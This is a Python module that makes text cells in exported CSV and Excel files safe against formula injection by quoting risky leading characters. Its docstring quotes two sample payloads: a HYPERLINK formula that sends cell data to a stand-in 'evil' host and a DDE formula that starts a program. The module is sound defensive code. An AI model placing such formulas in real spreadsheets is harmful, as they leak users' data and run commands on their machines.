"""Spreadsheet-safe text cells for every CSV and Excel file routeplanner writes.

A spreadsheet program opening a CSV runs a cell that begins with ``=``,
``+``, ``-`` or ``@`` (and, in some programs, a tab or carriage return) as a
formula: a stop named ``=HYPERLINK("http://evil/?"&A1)`` would send the
coordinator's data away, ``=cmd|'/C calc'!A0`` start a program ("formula" or
"CSV injection").  :func:`safe_cell` puts an apostrophe in front of such text,
which is the spreadsheet's own way to say "this is text" (OWASP's advice);
:func:`unsafe_cell` takes it off again when a file is read back, so a stops
table downloaded and uploaded again keeps its names exactly.

Numbers are left alone: ``-25.5912`` is a longitude, not a formula, and
a leading apostrophe would turn it into text.
"""

from __future__ import annotations

import re

#: First characters that start a formula (or make one start) in Excel,
#: LibreOffice Calc or Google Sheets.
FORMULA_STARTS = frozenset("=+-@\t\r")

_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    # Apostrophes already in front are counted in, so that a name which really
    # begins with "'=" survives the round trip too: it is written "''=".
    bare = text.lstrip("'")
    return bare[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(bare)


def safe_cell(value: object) -> object:
    """``value`` as it may go into a spreadsheet cell: formula text gets a leading ``'``.

    ``"=1+1"`` -> ``"'=1+1"``; ``"-3.5"`` and non-text values are returned as
    they are.
    """
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def unsafe_cell(text: str) -> str:
    """The inverse of :func:`safe_cell` for text read from a file: ``"'=1+1"`` -> ``"=1+1"``."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text
